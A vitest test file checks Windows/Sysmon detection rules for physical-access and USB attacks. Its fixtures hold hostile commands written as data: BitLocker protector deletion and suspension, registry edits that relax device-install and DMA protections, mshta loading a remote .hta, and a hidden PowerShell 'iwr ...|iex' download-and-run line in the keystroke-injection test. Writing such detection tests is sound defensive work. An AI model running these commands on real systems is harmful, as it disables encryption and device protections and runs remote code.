// Built-in rules for physical access, removable media and peripherals (the thirty-seventh round of blind units): each
// rule fires on the event it is written for, as Windows or Sysmon writes it, with its level and a tactic of what the
// event shows, and a benign near miss of the same event type (often the same tool used the ordinary way) does not fire it.
import { describe, expect, it } from 'vitest';
import { builtinHits, CMD, describeCatalogue, EXPL, OFFICE, proc, PS, S32, sec, SUBJ, type CatalogueCase, type Ev } from './builtin.fixture.js';

const MBDE = `${S32}manage-bde.exe`;
const REG = `${S32}reg.exe`;
const logon = (logonType: number, sid: string, user: string): Ev =>
  sec(4624, { SubjectUserSid: 'S-1-5-18', SubjectUserName: 'WS01$', SubjectDomainName: 'CORP', SubjectLogonId: '0x3e7', TargetUserSid: sid, TargetUserName: user, TargetDomainName: 'WS01', TargetLogonId: '0xa1c33f', LogonType: logonType, LogonProcessName: 'User32 ', AuthenticationPackageName: 'Negotiate', WorkstationName: 'WS01', IpAddress: '127.0.0.1', IpPort: '0', ProcessName: `${S32}svchost.exe` });
const device = (deviceId: string, className: string, description: string): Ev =>
  sec(6416, { ...SUBJ, SubjectUserName: 'WS01$', DeviceId: deviceId, DeviceDescription: description, ClassId: '{4d36e972-e325-11ce-bfc1-08002be10318}', ClassName: className, VendorIds: deviceId, CompatibleIds: '', LocationInformation: 'Port_#0002.Hub_#0001' });

/** [rule title, level, a tactic it carries, the event it is written for, a benign near miss]. */
const cases: CatalogueCase[] = [
  ['BitLocker Key Protector Deleted Or Protection Suspended Indefinitely', 'medium', 'defense-impairment',
    proc(MBDE, 'manage-bde  -protectors -delete C: -Type TPMAndPIN'), proc(MBDE, 'manage-bde  -protectors -add C: -TPMAndPIN')],
  ['BitLocker Key Protector Deleted Or Protection Suspended Indefinitely', 'medium', 'defense-impairment',
    proc(MBDE, 'manage-bde  -protectors -disable C: -RebootCount 0'), proc(MBDE, 'manage-bde  -protectors -disable C: -RebootCount 1')],
  ['BitLocker Key Protector Deleted Or Protection Suspended Indefinitely', 'medium', 'defense-impairment',
    proc(PS, 'powershell -c "Suspend-BitLocker -MountPoint C: -RebootCount 0"'), proc(PS, 'powershell -c "Suspend-BitLocker -MountPoint C: -RebootCount 2"')],
  ['BitLocker Recovery Password Read From The Command Line', 'low', 'credential-access',
    proc(MBDE, 'manage-bde  -protectors -get C: -Type RecoveryPassword'), proc(MBDE, 'manage-bde  -protectors -get C:')],
  ['Device Control Policy Removed Or Relaxed From The Command Line', 'medium', 'defense-impairment',
    proc(REG, 'reg  delete HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\DeviceInstall\\Restrictions /f'),
    proc(REG, 'reg  query HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\DeviceInstall\\Restrictions')],
  ['Device Control Policy Removed Or Relaxed From The Command Line', 'medium', 'defense-impairment',
    proc(REG, 'reg  add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\Kernel DMA Protection" /v DeviceEnumerationPolicy /t REG_DWORD /d 2 /f'),
    proc(REG, 'reg  add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\Kernel DMA Protection" /v DeviceEnumerationPolicy /t REG_DWORD /d 0 /f')],
  ['Device Control Policy Removed Or Relaxed From The Command Line', 'medium', 'defense-impairment',
    proc(REG, 'reg  add HKLM\\SYSTEM\\CurrentControlSet\\Control\\StorageDevicePolicies /v WriteProtect /t REG_DWORD /d 0 /f'),
    proc(REG, 'reg  add HKLM\\SYSTEM\\CurrentControlSet\\Control\\StorageDevicePolicies /v WriteProtect /t REG_DWORD /d 1 /f')],
  ['USB And Portable Device History Queried From The Registry', 'low', 'discovery',
    proc(REG, '"C:\\Windows\\system32\\reg.exe" query HKLM\\SYSTEM\\CurrentControlSet\\Enum\\USBSTOR /s'),
    proc(REG, '"C:\\Windows\\system32\\reg.exe" query HKLM\\SYSTEM\\CurrentControlSet\\Services\\USBSTOR /v Start')],
  ['Program Or Script On A Non-System Drive Started From Explorer', 'low', 'execution',
    proc('E:\\Invoice_viewer.exe', '"E:\\Invoice_viewer.exe" ', EXPL), proc('E:\\Invoice_viewer.exe', '"E:\\Invoice_viewer.exe" ', CMD)],
  ['Program Or Script On A Non-System Drive Started From Explorer', 'low', 'initial-access',
    proc(CMD, 'C:\\Windows\\system32\\cmd.exe /c ""E:\\setup\\install.bat" "', EXPL),
    proc(`${OFFICE}EXCEL.EXE`, `"${OFFICE}EXCEL.EXE" "E:\\Finance\\Q3_budget.xlsx"`, EXPL)],
  ['Script Host Or Proxy Program Started From Explorer In A Folder On A Non-System Drive', 'medium', 'initial-access',
    proc(`${S32}mshta.exe`, '"C:\\Windows\\System32\\mshta.exe" https://cdn-docs.example/s.hta', EXPL, { CurrentDirectory: 'E:\\Personal\\' }),
    proc(`${S32}mshta.exe`, '"C:\\Windows\\System32\\mshta.exe" https://cdn-docs.example/s.hta', EXPL, { CurrentDirectory: 'C:\\Users\\bob\\Desktop\\' })],
  ['Interactive Console Logon With A Built-in Administrator Account', 'low', 'initial-access',
    logon(2, 'S-1-5-21-1004336348-1177238915-682003330-500', 'Administrator'), logon(2, 'S-1-5-21-1004336348-1177238915-682003330-1001', 'kiosk.tech')],
  ['USB Network Adapter Recognized', 'low', 'initial-access',
    device('USB\\VID_0B95&PID_772B\\0050B6A1C3D2', 'Net', 'ASIX AX88772B USB2.0 to Fast Ethernet Adapter'),
    device('PCI\\VEN_8086&DEV_15F3&SUBSYS_00008086&REV_03\\3&11583659&0&E0', 'Net', 'Intel(R) Ethernet Controller I225-V')],
];

describeCatalogue('built-in rules for physical access, removable media and peripherals', cases);

describe('built-in correlations for physical access and peripherals', () => {
  it('a keyboard recognized and a shell started by Explorer within seconds is keystroke injection; either alone, the shell first, or a shell a minute later, is not', () => {
    const HID = 'Shell Started Within Seconds Of A Keyboard Being Plugged In';
    const keyboard = (): Ev =>
      sec(6416, { ...SUBJ, SubjectUserName: 'WS01$', DeviceId: 'HID\\VID_2341&PID_8036&MI_02\\7&2d7f91a4&0&0000', DeviceDescription: 'HID Keyboard Device', ClassId: '{4d36e96b-e325-11ce-bfc1-08002be10318}', ClassName: 'Keyboard', VendorIds: 'HID\\VID_2341&PID_8036&MI_02', CompatibleIds: '', LocationInformation: '' });
    const shell = (): Ev => proc(PS, 'powershell  -w h -nop -c "iwr -useb http://192.0.2.14/k|iex"', EXPL);
    const titles = (events: Ev[]): string[] => [...builtinHits(events).keys()];
    const h = builtinHits([keyboard(), shell()]).get(HID);
    expect(h?.level).toBe('medium');
    expect(h?.tactics).toContain('initial-access');
    expect(titles([keyboard()])).not.toContain(HID);
    expect(titles([shell()])).not.toContain(HID);
    expect(titles([shell(), keyboard()])).not.toContain(HID);
    const late = [keyboard()];
    for (let i = 0; i < 60; i++) late.push(proc(`${S32}notepad.exe`, 'notepad.exe', EXPL));
    late.push(shell());
    expect(titles(late)).not.toContain(HID);
  });
});
